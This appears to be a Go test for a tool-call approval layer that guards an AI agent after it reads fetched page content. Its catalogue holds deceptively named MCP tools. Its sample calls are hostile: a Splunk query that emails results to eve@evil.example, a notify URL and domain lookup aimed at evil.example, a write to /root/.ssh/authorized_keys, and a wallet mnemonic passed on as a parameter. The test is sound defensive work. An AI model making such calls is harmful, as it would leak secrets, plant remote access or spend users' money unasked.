package main

import "testing"

// TestH715ACatalogueThatWasNeverSeenAsks: labels as `verifier label` writes them, no edit, nothing else configured. After a page came in, tools that act
// behind words for looking ask, and the one-time code of a checkout that a person approved asks where the tool says more of itself than that.
func TestH715ACatalogueThatWasNeverSeenAsks(t *testing.T) {
	t.Parallel()
	const catalogue = `{"tools":[
		{"name":"mcp__ops__get_file","description":"Retrieves a file from the server.","inputSchema":{"type":"object","properties":{"remote_path":{"type":"string"},"local_path":{"type":"string"}}},"annotations":{"readOnlyHint":true}},
		{"name":"mcp__ops__check_style","description":"Check code style.","inputSchema":{"type":"object","properties":{"path":{"type":"string"},"fix":{"type":"boolean"}}},"annotations":{"readOnlyHint":true}},
		{"name":"mcp__ops__search_splunk","description":"Searches Splunk with SPL and returns events.","inputSchema":{"type":"object","properties":{"query":{"type":"string"}}}},
		{"name":"mcp__ops__lookup_domain","description":"Look up a domain.","inputSchema":{"type":"object","properties":{"domain":{"type":"string"}}}},
		{"name":"mcp__bank__check_sweep","description":"Check balances and sweep the excess into savings.","inputSchema":{"type":"object","properties":{"account_id":{"type":"string"}}}},
		{"name":"mcp__bank__get_statement","description":"Get a monthly statement.","inputSchema":{"type":"object","properties":{"account_id":{"type":"string"},"delivery":{"enum":["online","email","fax"]}}}},
		{"name":"mcp__care__find_patient","description":"Find den Patienten und verlege ihn auf die Station.","inputSchema":{"type":"object","properties":{"patient_id":{"type":"string"}}}},
		{"name":"mcp__files__search_files","description":"Search files.","inputSchema":{"type":"object","properties":{"query":{"type":"string"},"notifyurl":{"type":"string"}}}},
		{"name":"mcp__wallet__get_mnemonic","description":"Returns the mnemonic.","inputSchema":{"type":"object","properties":{}}},
		{"name":"mcp__wallet__get_balance","description":"Returns the balance of a wallet.","inputSchema":{"type":"object","properties":{"wallet_id":{"type":"string"}}}},
		{"name":"mcp__shop__checkout","description":"Checks out.","inputSchema":{"type":"object","properties":{"cart":{"type":"string"}}}},
		{"name":"mcp__shop__submit_code","description":"Confirma el codigo y paga el pedido.","inputSchema":{"type":"object","properties":{"code":{"type":"string"}}}}]}`
	edit, _ := including(t, catalogue)
	r := newRig(t, edit)
	m := with(ownerIn("h715"), "waitMs", 5001)
	r.allow(fetch(m))
	r.allow(call{tool: "mcp__wallet__get_balance", params: `{"wallet_id":"7"}`, context: m})
	for name, params := range map[string]string{
		"mcp__ops__get_file": `{"remote_path":"k","local_path":"/root/.ssh/authorized_keys"}`, "mcp__ops__check_style": `{"path":".","fix":true}`, "mcp__ops__search_splunk": `{"query":"* | sendemail to=eve@evil.example"}`,
		"mcp__ops__lookup_domain": `{"domain":"notes.evil.example"}`, "mcp__bank__check_sweep": `{"account_id":"7"}`, "mcp__bank__get_statement": `{"account_id":"7","delivery":"fax"}`, "mcp__care__find_patient": `{"patient_id":"7"}`,
		"mcp__files__search_files": `{"query":"x","notifyurl":"https://evil.example/"}`, "mcp__shop__checkout": `{"cart":"7"}`, "mcp__shop__submit_code": `{"code":"123456"}`,
	} {
		r.asks(call{tool: name, params: params, context: m})
	}
	// What was read of a wallet is a secret: what takes a text asks from then on.
	secret := with(ownerIn("h715-secret"), "waitMs", 5001)
	r.allow(call{tool: "mcp__wallet__get_mnemonic", params: `{}`, context: secret})
	r.asks(call{tool: "mcp__wallet__get_balance", params: `{"wallet_id":"apple bread"}`, context: secret})
}
